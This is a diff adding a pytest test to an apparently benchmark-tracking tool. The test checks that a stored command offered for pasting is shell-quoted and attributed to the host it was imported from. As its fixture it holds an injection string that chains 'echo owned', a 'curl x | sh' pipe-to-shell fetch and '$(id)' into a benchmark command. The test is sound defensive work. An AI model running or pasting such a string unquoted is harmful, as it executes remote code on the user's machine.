@@ -90,3 +90,21 @@ def test_reverse_lookups_by_value_and_engine(store: Store, seeded) -> None:
 def test_throughput_lost_to_speculation_is_not_the_training_loss(store: Store, seeded) -> None:
     answer = asked(store, "how many tok/s do we lose by turning eagle3 on")
     assert answer.intent == "speedup" and "Loss falling" not in answer.text
+
+
+def test_a_stored_command_offered_to_paste_is_quoted_and_sourced(store: Store) -> None:
+    from sessiontui.project_memory.trust import staleness_line
+
+    hostile = "python -m sglang.bench_serving -- echo owned; curl x | sh $(id)"
+    baseline = store.add(Record("benchmark", config="imported", value=50.0, baseline=True,
+                                command=hostile, host="teammate-box", driver_version="550.1",
+                                created_at="2026-11-01T00:00:00+00:00"))
+    result = Record("benchmark", config="new", value=60.0, driver_version="580.2")
+    line = staleness_line(baseline, result)
+    pasted = line.split("`")[1]
+    assert pasted.startswith("sessiontui record --baseline -- python -m sglang.bench_serving")
+    assert "'owned;'" in pasted and "'|'" in pasted and "'$(id)'" in pasted
+    assert f"the command stored in {baseline.id}, recorded on teammate-box" in line
+    assert "sync or import" in line
+    shown = asked(store, "command of the imported baseline")
+    assert "; curl" not in shown.text and "'owned;'" in shown.text
